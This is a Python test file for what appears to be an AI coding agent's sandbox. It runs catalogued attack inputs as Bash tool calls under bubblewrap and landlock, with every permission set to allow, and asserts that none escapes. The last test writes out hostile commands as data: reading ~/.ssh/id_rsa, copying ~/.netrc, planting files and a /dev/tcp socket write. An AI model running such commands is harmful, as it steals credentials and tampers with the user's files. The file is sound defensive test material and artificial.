"""The shell inputs of ``lists/`` where nothing but walls holds them: run as they stand, without rules,
modes or questions; and by a real daemon with every rule set to allow. Here some of them, with
``OHMO_ATTACKS=all`` every one."""

from __future__ import annotations

import os
import re
from dataclasses import replace
from pathlib import Path
from typing import Literal

import pytest

from tests.attacks.house import Outcome, attackable, attacked
from tests.attacks.only_walls import Input, all_tried, inputs
from tests.attacks.rows import Row
from tests.attacks.test_attack_list import CATEGORIES as ATTACKS
from tests.parts import skip_without, there
from tests.platforms.model.script import Call

pytestmark = [pytest.mark.timeout(300), pytest.mark.needs("linux")]
CATEGORIES = [name for name in ATTACKS if inputs(name)]
ALL = os.environ.get("OHMO_ATTACKS") == "all"
PROTECTED = re.compile(r"changed home/ada/work/\.git/(hooks|config)")
EVERYTHING = {
    "approval_timeout": "1s",
    "mode": "full_auto",
    "read_outside": "allow",
    "allow": ["Bash", "Read", "Write", "Edit", "MultiEdit", "Grep", "Glob", "WebFetch"],
}


@pytest.fixture(params=["bubblewrap", "landlock"])
def backend(request: pytest.FixtureRequest) -> Literal["bubblewrap", "landlock"]:
    part = "bwrap" if request.param == "bubblewrap" else "landlock"
    if not there(part):
        skip_without(part)
    return request.param


@pytest.mark.parametrize("category", CATEGORIES)
async def test_no_command_gets_out(
    category: str, backend: Literal["bubblewrap", "landlock"], tmp_path: Path
) -> None:
    chosen = inputs(category)[:: 1 if ALL else 4]
    outcomes, reached = await all_tried(tmp_path, backend, chosen)
    ran = sum(one.ran > 0 for one in outcomes)
    print(f"{backend}, {category}: {len(outcomes)} inputs tried, {ran} ended by themselves")
    broken = [f"{one.input.row.shown}: {what}" for one in outcomes for what in one.effects]
    assert (broken, reached, len(outcomes)) == ([], [], len(chosen))
    assert ran >= 0.8 * len(outcomes)


@pytest.mark.needs("cc", "rg")
@pytest.mark.timeout(1200)
async def test_with_every_rule_set_to_allow_no_command_gets_out(
    backend: Literal["bubblewrap", "landlock"], tmp_path: Path
) -> None:
    found = [one for name in CATEGORIES for one in inputs(name) if one.row.who == "owner"]
    chosen = [replace(one.row, mode="full_auto", calls=one.calls) for one in found]
    chosen = chosen[:: 1 if ALL else 12]
    scene = attackable(tmp_path / "a")
    (scene.work / "hard.txt").unlink()
    outcomes: list[Outcome] = []
    unnamed: list[str] = []
    async with attacked(scene, permissions=EVERYTHING, sandbox={"backend": backend}) as house:
        for first in range(0, len(chosen), 100):
            outcomes += await house.tries(chosen[first : first + 100])
            unnamed += house.unnamed
    refused = sum(any(map(_refused, one.told)) for one in outcomes)
    print(f"{backend}: {len(outcomes)} inputs tried, {refused} refused all the same")
    broken = [f"{one.row.shown}: {what}" for one in outcomes for what in one.effects]
    broken = [what for what in (*broken, *unnamed) if "changed home/ada/work/" not in what]
    if backend == "bubblewrap":
        broken += filter(PROTECTED.match, unnamed)
    assert (broken, len(outcomes)) == ([], len(chosen))
    assert refused < 0.8 * len(outcomes)  # words that name a sensitive place, whatever rules say


def _refused(told: str) -> bool:
    return told.startswith(("Not allowed", "Nobody answered"))


async def test_without_walls_the_same_inputs_succeed(tmp_path: Path) -> None:
    lines = {
        "cat ~/.ssh/id_rsa": "a secret was told",
        "cp ~/.netrc mine": "a secret lies in mine",
        "echo x > ~/planted": "changed home/ada/planted: None became ",
        "chmod 644 ~/.netrc": "changed home/ada/.netrc: ",
        "exec 3<> /dev/tcp/127.0.0.1/@PORT@; echo seen-004 >&3; cat <&3": "a secret was told",
        "ls": "",
    }
    found: list[Input] = []
    for number, line in enumerate(lines):
        call = Call("Bash", {"command": line})
        found.append(Input(Row("seen", number, "", "owner", "full_auto", (call,)), (call,)))
    outcomes, reached = await all_tried(tmp_path, "none", found, pens=1)
    for one, what in zip(outcomes, lines.values(), strict=True):
        (effect,) = one.effects or ("",)
        assert effect.startswith(what), (one.input.row.shown, effect)
        assert bool(effect) == bool(what)
    assert reached == ["seen-004"]
